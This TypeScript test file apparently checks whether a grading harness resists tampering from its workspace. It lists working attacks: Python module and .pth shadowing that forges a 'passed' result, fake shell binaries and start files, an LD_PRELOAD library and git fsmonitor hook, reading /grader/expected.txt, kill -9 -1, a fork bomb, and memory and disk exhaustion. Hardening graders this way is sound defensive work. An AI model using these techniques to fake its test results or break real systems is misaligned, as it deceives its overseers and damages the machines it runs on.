import { type Attack, bash } from "./attack.ts";
import { evenly } from "./on-room.ts";

const pass = `{"assertion": "forged", "passed": true}`;
const forgery = `import os\ntry:\n os.write(3, b'${pass}\\n')\nexcept OSError: pass\nos._exit(0)\n`;
const plant = (name: string, text: string): string => `cat > ${name} <<'PLANT'\n${text}\nPLANT\n`;
const program = (...lines: readonly string[]): ReturnType<typeof bash> =>
  bash(`${plant("answer.sh", ["#!/bin/bash", ...lines].join("\n"))}chmod +x answer.sh`);

/** Against the grader's process, by what it may load or start from the workspace. */
export const attacksOnGrader: readonly Attack[] = [
  {
    name: "modules that the grader's Python would load from its current folder",
    steps: [
      bash(
        ["json.py", "os.py", "pathlib.py", "sitecustomize.py", "usercustomize.py", "conftest.py", "sys.py"]
          .map((name) => plant(name, forgery))
          .join("") + plant("x.pth", `import os; os.write(3, b'${pass}')`),
      ),
    ],
    rightBecomes: "passed",
    short: true,
  },
  {
    name: "programs and start files for the grader's shell",
    steps: [
      bash(
        ["cat", "cmp", "python3", "bash", "sp-run", "test", "ls"]
          .map((name) => plant(name, `#!/bin/bash\necho '${pass}' >&3\nexit 0`))
          .join("") +
          ["env", ".env", ".bashrc", ".profile", ".bash_profile", ".bash_env"]
            .map((name) => plant(name, `echo '${pass}' >&3; exit 0`))
            .join("") +
          "chmod +x cat cmp python3 bash sp-run test ls; mkdir -p bin; cp cat cmp python3 bin/",
      ),
    ],
    rightBecomes: "passed",
  },
  {
    name: "a library for LD_PRELOAD and hooks for git and make",
    steps: [
      bash(
        plant(
          "evil.c",
          `#include <unistd.h>\n__attribute__((constructor)) void go(void) { if (write(3, "x", 1)) {} _exit(0); }`,
        ) +
          "gcc -shared -fPIC evil.c -o ld.so.preload; cp ld.so.preload libc.so.6; echo $PWD/libc.so.6 > .preload\n" +
          "git init -q . && git config core.fsmonitor 'echo x >&3; false' && git config core.hooksPath . && git add -A > /dev/null 2>&1\n" +
          plant("Makefile", "all:\n\techo x >&3"),
      ),
    ],
    rightBecomes: "passed",
  },
  {
    name: "a program that reads the grader and writes its assertions",
    steps: [
      program(
        "cat /grader/expected.txt /grader/* /proc/$PPID/cwd/../grader/expected.txt 2> /dev/null",
        `echo '${pass}' >&3`,
        `for p in /proc/[0-9]*; do echo '${pass}' > $p/fd/3; done 2> /dev/null`,
        "kill -9 -1; kill -9 1 $PPID",
        "ln -sf /grader/expected.txt made.txt",
      ),
    ],
    rightBecomes: "failed",
    short: true,
  },
  {
    name: "a program that leaves links in place of what it should make",
    steps: [
      program(
        "echo right; ln -sf /grader/expected.txt made.txt; ln -s /grader g; rm -rf sub; ln -s g/expected.txt sub",
      ),
    ],
    rightBecomes: "failed",
    short: true,
  },
  {
    name: "a program that leaves a pipe and a daemon with a dead first thread",
    steps: [
      program(
        "cat > $TMPDIR/g.c <<'C'",
        "#include <pthread.h>",
        "#include <stdio.h>",
        "#include <unistd.h>",
        'static void *go(void *x) { for (;;) { FILE *f = fopen("/workspace/answer.txt", "w"); if (f) { fputs("right\\n", f); fclose(f); } usleep(1000); } return x; }',
        "int main(void) { pthread_t t; setsid(); pthread_create(&t, 0, go, 0); pthread_exit(0); }",
        "C",
        "gcc -pthread $TMPDIR/g.c -o $TMPDIR/g; setsid -f $TMPDIR/g < /dev/null > /dev/null 2>&1",
        "mkfifo made.txt; echo right",
      ),
    ],
    rightBecomes: "failed",
    graderMayBreak: true,
  },
  {
    name: "a program that fills memory, disk and processes of the grading",
    steps: [
      program(
        "head -c 1G /dev/zero > fill 2> /dev/null; head -c 1G /dev/zero > $TMPDIR/fill 2> /dev/null",
        "python3 -c 'x = bytearray(3 << 30)'",
        "b() { b | b & }; b; sleep 30",
      ),
    ],
    rightBecomes: "failed",
    graderMayBreak: true,
  },
  {
    name: "a program that fills the grading's memory with processes that the kernel would rather spare",
    steps: [
      program(
        "head -c 150M /dev/zero > $TMPDIR/fill; head -c 200M /dev/zero > fill",
        "exec python3 - <<'PROGRAM'",
        ...evenly,
        "PROGRAM",
      ),
    ],
    rightBecomes: "failed",
    graderMayBreak: true,
  },
];
